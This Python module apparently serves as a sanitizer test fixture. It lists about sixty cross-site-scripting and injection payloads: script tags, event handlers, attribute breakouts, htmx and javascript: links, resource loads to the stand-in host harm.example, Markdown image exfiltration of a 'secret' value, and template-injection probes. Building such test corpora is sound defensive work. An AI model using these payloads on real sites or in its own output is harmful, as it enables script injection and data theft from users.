"""Sixty ways in which words do harm where they are taken for markup, a link or a script; each with its reason.

What runs sets `window.harmed`; what is fetched goes to `HARM`, where nobody listens.
"""

from __future__ import annotations

HARM = "http://harm.example"
_DO = "window.harmed=1"

PAYLOADS: tuple[tuple[str, str], ...] = (
    # scripts
    (f"<script>{_DO}</script>", "plain"),
    (f"<ScRiPt>{_DO}</sCrIpT>", "case"),
    (f"<script src={HARM}/a.js></script>", "from elsewhere"),
    (f"<script src=//harm.example/b.js></script>", "without a scheme"),  # noqa: F541  reads like its neighbours
    (f"<script type=module>{_DO}</script>", "a module"),
    (f"</textarea><script>{_DO}</script>", "out of a field for text"),
    (f"</title><script>{_DO}</script>", "out of the title"),
    (f"</script><script>{_DO}</script>", "out of a script"),
    (f"--><script>{_DO}</script><!--", "out of a comment"),
    (f"<scr<script>ipt>{_DO}</scr</script>ipt>", "what a filter leaves"),
    # handlers of events
    (f"<img src=x onerror={_DO}>", "an image that fails"),
    (f"<img/src=x/onerror={_DO}>", "slashes for spaces"),
    (f"<IMG SRC=x OnErRoR={_DO}>", "case"),
    (f"<svg onload={_DO}>", "a picture that loads"),
    (f"<svg><script>{_DO}</script></svg>", "a script of a picture"),
    (f"<svg><animate onbegin={_DO} attributeName=x dur=1s>", "an animation that begins"),
    (f"<body onload={_DO}>", "the page itself"),
    (f"<input autofocus onfocus={_DO}>", "a field that takes the focus"),
    (f"<details open ontoggle={_DO}><summary>x</summary></details>", "a fold that opens"),
    (f"<video><source onerror={_DO}></video>", "a film that fails"),
    (f"<audio src=x onerror={_DO}>", "a sound that fails"),
    (f"<iframe onload={_DO}></iframe>", "a frame that loads"),
    (f"<object data=x onerror={_DO}></object>", "an object that fails"),
    (f"<style onload={_DO}></style>", "a style that loads"),
    (f"<marquee onstart={_DO}>x</marquee>", "running words"),
    # out of an attribute
    (f'" onmouseover="{_DO}" x="', "double quotes"),
    (f"' onmouseover='{_DO}' x='", "single quotes"),
    (f'" autofocus onfocus="{_DO}" x="', "double quotes, by itself"),
    (f'"><img src=x onerror={_DO}>', "out of the tag"),
    (f"'><svg onload={_DO}>", "out of the tag, single quotes"),
    (f'" hx-get="{HARM}/hx" hx-trigger="load" x="', "htmx asks elsewhere"),
    (f'" hx-on:load="{_DO}" x="', "htmx runs"),
    (f"<div hx-get={HARM}/hx2 hx-trigger=load>x</div>", "an element of htmx"),
    (f"<div data-hx-on:load={_DO}>x</div>", "htmx under its other name"),
    # links
    (f"<a href=javascript:{_DO}>x</a>", "a link that runs"),
    (f"<a href='java\tscript:{_DO}'>x</a>", "a tab in the scheme"),
    (f"<a href=&#106;avascript:{_DO}>x</a>", "a letter as an entity"),
    (f"<a href='data:text/html,<script>{_DO}</script>'>x</a>", "a page in a link"),
    (f"<form action=javascript:{_DO}><input type=submit></form>", "a form that runs"),
    (f"<form action={HARM}/form><button>x</button></form>", "a form that sends elsewhere"),
    (f"<button formaction={HARM}/button>x</button>", "a button that sends elsewhere"),
    (f"<base href={HARM}/>", "all links elsewhere"),
    (f"<meta http-equiv=refresh content='0;url={HARM}/refresh'>", "away by itself"),
    # fetched without a click
    (f"<img src={HARM}/img.png>", "an image"),
    (f"<img srcset='{HARM}/set.png 1x'>", "an image of a set"),
    (f"<picture><source srcset={HARM}/p.png><img src=x></picture>", "one of several"),
    (f"<link rel=stylesheet href={HARM}/a.css>", "a style sheet"),
    ("<link rel=dns-prefetch href=//secret.harm.example>", "a name that is looked up"),
    (f"<link rel=prefetch href={HARM}/pre>", "fetched beforehand"),
    (f"<style>@import '{HARM}/b.css'; *{{background:url({HARM}/bg.png)}}</style>", "a style's own"),
    (f"<p style='background:url({HARM}/bg2.png)'>x</p>", "a style of an element"),
    (f"<svg><image href={HARM}/svg.png /><use href={HARM}/u.svg#a /></svg>", "a picture's pictures"),
    (f"<iframe src={HARM}/frame></iframe>", "a frame"),
    (f"<iframe srcdoc='<script>parent.{_DO.removeprefix('window.')}</script>'></iframe>", "a frame written here"),
    (f"<table background={HARM}/t.png><tr><td>x</td></tr></table>", "a table's ground"),
    (f"<video poster={HARM}/v.png></video>", "a film's still"),
    # what models and Markdown write
    (f"![x]({HARM}/md.png?q=bí-mật)", "an image of Markdown"),
    (f"[bấm vào đây](javascript:{_DO})", "a link of Markdown"),
    (f"[x]: {HARM}/ref\n![y][x]", "an image by reference"),
    (f"{{{{ ''.__class__.__mro__ }}}}${{7*7}}<%= 7*7 %><img src=x onerror={_DO}>", "templates"),
)
